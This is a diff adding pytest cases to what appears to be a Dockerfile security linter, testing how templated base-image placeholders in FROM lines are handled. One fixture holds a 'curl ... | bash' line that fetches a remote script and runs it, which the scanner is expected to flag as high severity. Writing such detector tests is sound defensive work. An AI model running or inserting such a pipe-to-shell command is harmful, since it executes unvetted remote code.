@@ -72,3 +72,16 @@ def test_blanking_garbage_keeps_the_line_count(text: str) -> None:
     blanked, lines = blank_placeholders(text)
     assert blanked.count("\n") == text.count("\n")
     assert all(1 <= n <= text.count("\n") + 1 for n in lines)
+
+
+def test_a_base_image_placeholder_leaves_the_stage_read(tmp_path: Path) -> None:
+    text = "FROM {{ base_image_name_and_tag }} AS server\nRUN curl -sSL https://x.example/i.sh | bash\n"
+    found = _findings(tmp_path, text)
+    assert ("MLS909", 1, Severity.LOW) in found  # the template note names the FROM line
+    assert ("MLS503", 2, Severity.HIGH) in found
+    assert not any(rule == "MLS501" for rule, _, _ in found)  # the generator names the image
+
+
+def test_a_base_image_expression_with_a_literal_is_no_placeholder(tmp_path: Path) -> None:
+    found = _findings(tmp_path, "FROM {{ 'python' + x }} AS server\nRUN echo\n")
+    assert [(rule, severity.rank >= Severity.MEDIUM.rank) for rule, _, severity in found] == [("MLS909", True)]
